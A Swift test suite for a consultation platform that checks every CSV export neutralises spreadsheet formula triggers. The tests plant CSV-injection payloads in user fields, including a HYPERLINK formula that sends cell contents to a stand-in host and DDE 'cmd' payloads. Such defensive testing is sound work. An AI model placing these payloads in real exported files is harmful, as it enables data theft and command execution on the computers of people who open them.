import ContribuezAnalysis
import ContribuezCore
import ContribuezOpenData
@testable import ContribuezWeb
import Foundation
import Testing

/// Issue 13, deliverable 5: every CSV the project writes is opened and each cell checked. A cell that a spreadsheet
/// would run as a formula (it starts with `=`, `+`, `-`, `@`, a tab or a carriage return) must be a number; text that
/// starts so carries one leading apostrophe. Texts of this kind are planted in every free-text place they can go
/// (display name, organisation, titles, texts, rationales, argument texts, consultation title and summary,
/// questionnaire-free ids in raking), so that each writer meets them.
@Suite("Every CSV the project writes is neutralised for spreadsheets (issue 13)")
struct CSVInjectionTests {
    /// Classic CSV-injection payloads (OWASP's list), one per trigger character.
    static let payloads = [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"Cliquez\")",
        "+33 1 23 45 67 89 =cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1 tabulation",
        "\r=1+1 retour chariot",
        "'=déjà une apostrophe",
    ]

    struct Offence: CustomStringConvertible {
        var file: String, row: Int, column: Int, cell: String
        var description: String { "\(file) row \(row) column \(column): \(cell.debugDescription)" }
    }

    /// Checks one CSV: returns the cells a spreadsheet would run, and how many cells carry the neutralising apostrophe.
    static func inspect(_ file: String, _ text: String) throws -> (offences: [Offence], neutralised: Int) {
        let rows = try CSVRows.parse(text)
        var offences: [Offence] = [], neutralised = 0
        for (r, row) in rows.enumerated() {
            for (c, cell) in row.enumerated() {
                guard let first = cell.utf8.first else { continue }
                if Neutralisation.triggers.contains(first), Double(cell) == nil {
                    offences.append(Offence(file: file, row: r, column: c, cell: cell))
                }
                if first == Neutralisation.apostrophe, Neutralisation.applies(cell.utf8, reading: true) { neutralised += 1 }
            }
        }
        return (offences, neutralised)
    }

    /// Plants the payloads through the store: an author (their name and organisation), proposals, an amendment and
    /// arguments by them, a consultation title and summary, and votes so that the synthesis ranks them.
    static func plant(_ server: TestServer, author: Participant) async throws -> Article {
        let article = try await server.firstArticle()
        let c = server.demo.id, now = server.clock.now()
        for (i, p) in payloads.enumerated() {
            let proposal = try await server.store.addContribution(.init(
                consultationID: c, kind: .proposal, articleID: nil, parentID: nil, authorID: author.id, authorName: author.displayName,
                title: p, body: p + " (texte)", rationale: p, createdAt: now), held: false)
            let amendment = try await server.store.addContribution(.init(
                consultationID: c, kind: .amendment, articleID: article.id, parentID: nil, authorID: author.id, authorName: author.displayName,
                title: p, body: "\(p) amendement \(i)", rationale: p, createdAt: now), held: false)
            _ = try await server.store.addContribution(.init(
                consultationID: c, kind: .argument, articleID: article.id, parentID: nil, authorID: author.id, authorName: author.displayName,
                body: "\(p) argument \(i)", stance: .for, createdAt: now), held: false)
            for v in 0..<4 {
                let voter = try await server.store.createParticipant(
                    .init(email: "votant\(i)-\(v)@example.org", displayName: "Votant \(i)-\(v)", kind: .citizen, organization: nil, createdAt: now),
                    passwordHash: "x")
                _ = try await server.store.castVote(participantID: voter.id, target: .contribution(proposal.id), value: v % 2 == 0 ? .agree : .disagree, at: now)
                _ = try await server.store.castVote(participantID: voter.id, target: .contribution(amendment.id), value: .agree, at: now)
                _ = try await server.store.castVote(participantID: author.id, target: .contribution(proposal.id), value: .mixed, at: now)
            }
        }
        return article
    }

    @Test("open data, personal export, synthesis downloads, the Polis export and raking weights: no cell runs as a formula, and the planted texts come back neutralised")
    func everyCSV() async throws {
        // setup
        let server = try await TestServer.make()
        let collected = Collected()
        try await server.run { browser in
            let signedUp = try await browser.signUp(email: "formule@example.org", name: Self.payloads[0], kind: "association", organization: Self.payloads[3])
            #expect(signedUp.status == .seeOther, "the sign-up with a formula as a name is accepted: \(signedUp.status)")
            let author = try #require(try await server.store.credentials(email: "formule@example.org")).participant
            try await server.makeOrganiser(author.id)
            let article = try await Self.plant(server, author: author)
            try await SynthesisPageTests.runDirectly(server)

            // act
            // 1. The open-data package (the organiser's preview): every CSV entry.
            let openData = try await browser.binary(.get, "/consultations/\(server.demo.id)/donnees.zip")
            #expect(openData.status == .ok)
            let zip = try openData.zip()
            for entry in zip.entries where entry.name.hasSuffix(".csv") {
                collected.files.append(("donnees.zip/\(entry.name)", String(decoding: try zip.read(entry.name), as: UTF8.self),
                              ["contributions.csv", "participants.csv"].contains(entry.name)))
            }
            // 2. The personal export: every CSV entry.
            let personal = try await browser.binary(.get, "/compte/donnees.zip")
            #expect(personal.status == .ok)
            let mine = try personal.zip()
            for entry in mine.entries where entry.name.hasSuffix(".csv") {
                collected.files.append(("mes-donnees.zip/\(entry.name)", String(decoding: try mine.read(entry.name), as: UTF8.self), entry.name == "contributions.csv"))
            }
            // 3. The synthesis downloads, consultation-wide and per article.
            for table in SynthesisTable.allCases {
                let reply = try await browser.get("/consultations/\(server.demo.id)/synthese/\(table.rawValue).csv")
                #expect(reply.status == .ok, "\(table)")
                collected.files.append(("synthese/\(table.rawValue).csv", reply.body, table == .tallies))
            }
            for table in ArticleSynthesisTable.allCases {
                let reply = try await browser.get("/articles/\(article.id)/synthese/\(table.rawValue).csv")
                #expect(reply.status == .ok, "article \(table)")
                collected.files.append(("synthese-article/\(table.rawValue).csv", reply.body, table == .tallies))
            }
        }
        var files = collected.files
        // 4. The Polis export, with a consultation title and summary that are formulas too.
        var consultation = server.demo
        consultation.title = Self.payloads[1]
        consultation.summary = Self.payloads[2]
        let dir = FileManager.default.temporaryDirectory.appendingPathComponent("csv-injection-\(UUID().uuidString)")
        try FileManager.default.createDirectory(at: dir, withIntermediateDirectories: true)
        _ = try await server.store.withOpenDataReader { reader in
            try await PolisExport.write(consultation: consultation, reader: reader, to: dir)
        }
        for name in PolisExport.files where name.hasSuffix(".csv") {
            files.append(("polis/\(name)", try String(contentsOf: dir.appendingPathComponent(name), encoding: .utf8), ["comments.csv", "summary.csv"].contains(name)))
        }
        // 5. `contribuez analyze reweight`: respondent ids are the operator's, and may be anything.
        let respondents = "id,sexe\n" + Self.payloads.enumerated().map { i, p in
            Browser.csvField(p) + "," + (i % 2 == 0 ? "F" : "H")
        }.joined(separator: "\n") + "\n-7,F\n"
        let weights = try Raking.reweightCSV(respondents: respondents, margins: "dimension,category,share\nsexe,F,0.5\nsexe,H,0.5\n")
        files.append(("reweight.csv", weights.csv, true))

        // check
        #expect(files.count >= 15 + 6 + SynthesisTable.allCases.count + ArticleSynthesisTable.allCases.count + 3 + 1)
        for file in files {
            let (offences, neutralised) = try Self.inspect(file.name, file.text)
            #expect(offences.isEmpty, "\(file.name): \(offences.prefix(3))")
            if file.carriesPayloads { #expect(neutralised > 0, "\(file.name) carries the planted texts, neutralised") }
        }
        let reweight = try CSVRows.parse(weights.csv)
        #expect(reweight.contains { $0.first == "-7" }, "a numeric id stays a number")
        let comments = try CSVRows.parse(try String(contentsOf: dir.appendingPathComponent("comments.csv"), encoding: .utf8))
        #expect(comments.contains { $0.last?.hasPrefix("'" + Self.payloads[0]) == true }, "comment-body neutralised")
        #expect(comments.contains { $0.last?.hasPrefix("''=déjà une apostrophe") == true }, "one more apostrophe before an apostrophe and a trigger")
    }

    @Test("restoring undoes neutralising exactly, apostrophes included")
    func exactReverse() async throws {
        // setup
        let cells = Self.payloads + ["ordinary text", "'apostrophe only", "-1"]
        // act
        let restored = cells.map { Neutralisation.restore(Neutralisation.neutralise($0)) }
        // check
        #expect(restored == cells)
    }
}

/// What the server run collects (its closure is `@Sendable`).
final class Collected: @unchecked Sendable {
    var files: [(name: String, text: String, carriesPayloads: Bool)] = []
}

extension Browser {
    /// RFC 4180 quoting for test-written CSV input.
    static func csvField(_ s: String) -> String {
        s.contains(where: { $0 == "," || $0 == "\"" || $0 == "\n" || $0 == "\r" }) ? "\"" + s.replacingOccurrences(of: "\"", with: "\"\"") + "\"" : s
    }
}
